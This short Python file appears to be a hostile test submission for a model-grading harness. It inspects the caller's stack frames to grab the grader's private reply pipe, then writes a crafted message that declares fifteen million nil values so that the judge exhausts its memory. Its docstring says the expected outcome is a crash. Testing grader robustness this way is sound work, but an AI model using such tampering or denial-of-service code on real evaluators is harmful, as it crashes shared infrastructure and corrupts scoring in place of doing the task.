"""Fill a frame up to its limit with values that each cost the judge an object.

A safe grader counts the values that it rebuilds, and stops.

Expected: crashed, up to 7 points
"""

import os
import sys

frame = sys._getframe()
while "reply_fd" not in frame.f_locals:
    frame = frame.f_back
PIPE = frame.f_locals["reply_fd"]

COUNT = 15_000_000
BODY = b"\x93\xa8returned\x93\xa5items\xa4list\xdd" + COUNT.to_bytes(4, "big") + b"\xc0" * COUNT + b"\x90"


def predict_without_tracking(model, images):
    """Send one object a byte."""
    data = len(BODY).to_bytes(4, "big") + BODY
    while data:
        data = data[os.write(PIPE, data) :]
